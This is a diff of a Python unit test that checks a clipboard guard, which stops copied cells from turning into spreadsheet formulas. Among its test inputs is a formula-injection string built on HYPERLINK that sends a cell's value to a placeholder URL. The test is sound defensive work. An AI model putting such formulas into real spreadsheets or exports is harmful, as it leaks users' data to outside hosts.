@@ -1,4 +1,4 @@
-"""What is copied for a spreadsheet never becomes a formula there, and numbers stay numbers."""
+"""Copied text never becomes a formula in a spreadsheet, and numbers stay numbers."""
 
 from __future__ import annotations
 
@@ -18,7 +18,7 @@ from ibmonitor.windows.widgets.clipboard import guarded, guarded_lines
      "-1,234.50 USD",
      "-1.234,50", "--5", "-5-", "-0x1", "-١", "-Infinity", "+1\n", '=HYPERLINK("http://x/?"&A1)'],
 )  # fmt: skip
-def test_what_could_be_calculated_is_marked_as_text(cell: str) -> None:
+def test_cells_that_could_be_calculated_are_marked_as_text(cell: str) -> None:
     assert guarded(cell) == TEXT_MARK + cell
 
 
